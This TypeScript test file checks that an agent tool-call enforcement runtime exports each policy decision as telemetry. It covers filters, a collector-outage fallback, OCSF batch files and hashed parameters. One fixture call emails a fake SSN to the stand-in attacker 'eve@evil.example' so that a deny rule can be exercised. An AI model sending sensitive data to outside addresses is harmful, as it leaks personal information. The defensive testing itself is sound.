/**
 * §9.8, R8: every decision is exported as telemetry in a documented schema
 * (OTLP to a collector, or OCSF batch files), filtered as configured, with
 * a local fallback when the collector is down, and with parameters only as
 * hashes. Telemetry is never in the enforcement path.
 *
 * @module
 */
import { validateTelemetryEvent } from "../../schema/validate.ts";
import type { Instance, Scenario, ScenarioContext, Setup } from "../types.ts";
import { alice, ofType, sampleTelemetry } from "./support.ts";

/** A policy under which each call of {@link CALLS} gets the decision it is named for (the runtime's telemetry tests use it too). */
export const FIVE_DECISIONS = `policy telemetry version "1"
tool files.read { args { path: string } effect read }
tool db.query { args { sql: string, limit: number } effect read }
tool email.send { args { to: string, body: string } effect egress target args.to }
tool bank.pay { args { to: string, amount: number } effect egress target args.to }
tool creds.rotate { args { name: string } effect write }
fact window_open: bool
deny external_mail on email.send
  when domain(args.to) != "example.com"
  risk high
  because "mail leaves the company"
modify cap_rows on db.query
  when args.limit > 100
  set args.limit = 100
step_up big_payment on bank.pay
  when args.amount > 1000
  approvers ["finance"] timeout 1m
defer rotation on creds.rotate
  unless window_open
  needs window_open timeout 1m
allow reads when effect == read
allow mail on email.send
allow pay on bank.pay
allow rotate on creds.rotate when window_open
default deny`;

/** A sensitive value in the arguments that must never be exported. */
export const SECRET = "SSN 123-45-6789";

/** One call per decision under {@link FIVE_DECISIONS}, with the decision it gets. */
export const CALLS = [
  { tool: "files.read", args: { path: `/notes/${SECRET}.txt` }, expect: "ALLOW" },
  {
    tool: "db.query",
    args: { sql: `select * from people where note = '${SECRET}'`, limit: 500 },
    expect: "MODIFY",
  },
  { tool: "email.send", args: { to: "eve@evil.example", body: SECRET }, expect: "DENY" },
  { tool: "bank.pay", args: { to: "bob@example.com", amount: 5000 }, expect: "STEP_UP" },
  { tool: "creds.rotate", args: { name: "db-password" }, expect: "DEFER" },
] as const;

/** Starts an instance with `telemetry`, makes the five calls, and checks their decisions. */
async function fiveCalls(
  t: ScenarioContext,
  telemetry: Setup["telemetry"],
  session: string,
): Promise<Instance> {
  const d = await t.start({ policy: FIVE_DECISIONS, ...(telemetry === undefined ? {} : { telemetry }) });
  const s = await d.session({ identity: alice(session), intent: "housekeeping" });
  for (const call of CALLS) {
    const r = await s.call(call.tool, call.args);
    t.check(
      r.decision === call.expect,
      `${call.tool}: decided ${r.decision ?? "nothing"}, expected ${call.expect}`,
    );
    t.observe(`${call.tool}: ${call.expect}${r.executed ? ", executed" : ", not executed"}`, r.receiptId);
  }
  return d;
}

/** The decision results the exported `aarm.action` events carry. */
function results(events: ReturnType<typeof ofType>): string[] {
  return [...new Set(events.map((a) => String((a.decision as { result?: string } | null)?.result)))].sort();
}

export const R8: readonly Scenario[] = [
  {
    id: "9.8.78",
    requirement: "R8",
    title:
      "Every decision type, DEFER included, is exported within seconds, as OTLP, in the documented schema",
    async run(t: ScenarioContext) {
      const d = await fiveCalls(t, { destination: "otlp" }, "s78");
      const t0 = Date.now();
      const capture = await d.telemetry();
      const seconds = (Date.now() - t0) / 1000;
      const exported = results(ofType(capture, "aarm.action"));
      t.check(
        exported.join() === "ALLOW,DEFER,DENY,MODIFY,STEP_UP",
        `aarm.action events exported for ${exported.join(", ") || "nothing"}`,
      );
      t.check(seconds < 10, `export took ${seconds} s`);
      const deferrals = ofType(capture, "aarm.deferral").map((e) => (e.deferral as { state?: string }).state);
      t.check(deferrals.includes("created"), "no aarm.deferral event for the DEFER");
      const approvals = ofType(capture, "aarm.approval").map(
        (e) => (e.workflow as { status?: string }).status,
      );
      t.check(approvals.includes("requested"), "no aarm.approval event for the STEP_UP");
      for (const event of capture.events) {
        const valid = validateTelemetryEvent(event.body);
        t.check(valid.ok, `an exported ${event.type} event does not fit the schema`);
      }
      t.observe(
        `${capture.events.length} events received by the ${capture.destination} within ${seconds.toFixed(2)} s of the last decision, all valid against telemetry-event.schema.json; decisions exported: ${exported.join(", ")}`,
      );
      sampleTelemetry(t, capture, ["aarm.action", "aarm.decision", "aarm.deferral", "aarm.approval"]);
    },
  },
  {
    id: "9.8.79",
    requirement: "R8",
    title: "Filters: only the chosen event types, or only what is at least MEDIUM, are exported",
    async run(t: ScenarioContext) {
      const typed = await fiveCalls(
        t,
        { destination: "otlp", filter: { eventTypes: ["aarm.decision", "aarm.approval"] } },
        "s79-types",
      );
      const byType = await typed.telemetry();
      const types = [...new Set(byType.events.map((e) => e.type))].sort();
      t.check(
        types.join() === "aarm.approval,aarm.decision",
        `with the event-type filter, exported: ${types.join(", ") || "nothing"}`,
      );
      t.observe(`filter event_types [aarm.decision, aarm.approval]: exported ${types.join(", ")}`);
      const severe = await fiveCalls(
        t,
        { destination: "otlp", filter: { minSeverity: "medium" } },
        "s79-severity",
      );
      const bySeverity = await severe.telemetry();
      const severities = [...new Set(bySeverity.events.map((e) => e.severity))].sort();
      t.check(severities.length > 0, "nothing was exported at MEDIUM or above");
      t.check(
        severities.every((s) => ["medium", "high", "critical"].includes(s)),
        `with min severity MEDIUM, exported severities ${severities.join(", ")}`,
      );
      t.check(
        !results(ofType(bySeverity, "aarm.action")).includes("ALLOW"),
        "the plain ALLOW (info) was exported past the MEDIUM filter",
      );
      t.observe(`filter min_severity MEDIUM: exported severities ${severities.join(", ")}`);
      sampleTelemetry(t, byType, ["aarm.decision"]);
      sampleTelemetry(t, bySeverity, ["aarm.action"]);
    },
  },
  {
    id: "9.8.80",
    requirement: "R8",
    title:
      "With the collector down, events go to the local fallback, a degraded alert fires, and enforcement goes on",
    async run(t: ScenarioContext) {
      const d = await fiveCalls(t, { destination: "otlp", collectorDown: true }, "s80");
      t.check(
        d.executions.some((e) => e.tool === "files.read") && d.executions.some((e) => e.tool === "db.query"),
        "the released actions did not run while the collector was down",
      );
      const capture = await d.telemetry();
      t.check(capture.events.length === 0, "the collector that was down received events");
      t.check(capture.alerts === 1, `${capture.alerts} degraded alerts, expected one`);
      t.check(
        capture.fallback.some((l) => l.includes('"aarm.export_degraded"')),
        "the degraded alert is not in the fallback",
      );
      t.check(
        capture.fallback.some((l) => l.includes('"DEFER"')),
        "the DEFER's events are not in the fallback",
      );
      t.observe(
        `collector refusing connections: the released actions ran; ${capture.fallback.length} events in the local fallback; ${capture.alerts} degraded alert`,
      );
      const alert = capture.fallback.find((l) => l.includes('"aarm.export_degraded"'));
      if (alert !== undefined)
        t.sample({ type: "aarm.export_degraded", severity: "high", body: JSON.parse(alert) });
    },
  },
  {
    id: "9.8.81",
    requirement: "R8",
    title: "Batch export writes one OCSF file per time window",
    async run(t: ScenarioContext) {
      // The exporter's clock crosses an hour boundary during the calls.
      const d = await fiveCalls(t, { destination: "files", clockFrom: "2026-11-22T09:59:58.000Z" }, "s81");
      const capture = await d.telemetry();
      t.check(
        capture.files.join() === "aarm-ocsf-20261122T0900Z.jsonl,aarm-ocsf-20261122T1000Z.jsonl",
        `batch files: ${capture.files.join(", ") || "none"}`,
      );
      for (const event of capture.events) {
        const body = event.body as { time?: number; metadata?: { version?: string } };
        t.check(body.metadata?.version === "1.1.0", "a batch line is not OCSF 1.1");
        t.check(typeof body.time === "number", "a batch line has no time");
      }
      const hours = new Set(
        capture.events.map((e) => new Date((e.body as { time: number }).time).getUTCHours()),
      );
      t.check(hours.size === 2, `the events span hours ${[...hours].join(", ")}`);
      t.observe(`${capture.events.length} OCSF events in ${capture.files.join(", ")}`);
      sampleTelemetry(t, capture, ["aarm.action"]);
    },
  },
  {
    id: "9.8.82",
    requirement: "R8",
    title: "Exported events carry parameters_hash, never the raw parameters",
    async run(t: ScenarioContext) {
      const d = await fiveCalls(t, { destination: "otlp" }, "s82");
      const capture = await d.telemetry();
      t.check(capture.raw.length > 0, "nothing was exported");
      for (const body of capture.raw) {
        t.check(!body.includes(SECRET), "a raw parameter value went over the wire");
        t.check(!body.includes("eve@evil.example"), "a raw target went over the wire");
      }
      const actions = ofType(capture, "aarm.action");
      for (const action of actions) {
        const hash = (action.action as { parameters_hash?: string }).parameters_hash ?? "";
        t.check(/^sha256:[0-9a-f]{64}$/.test(hash), "an exported action has no parameters_hash");
        t.check(!("parameters" in (action.action as object)), "an exported action carries its parameters");
      }
      t.observe(
        `${capture.raw.length} OTLP requests searched: no raw parameter or target; ${actions.length} actions with parameters_hash`,
      );
      sampleTelemetry(t, capture, ["aarm.action"]);
    },
  },
];
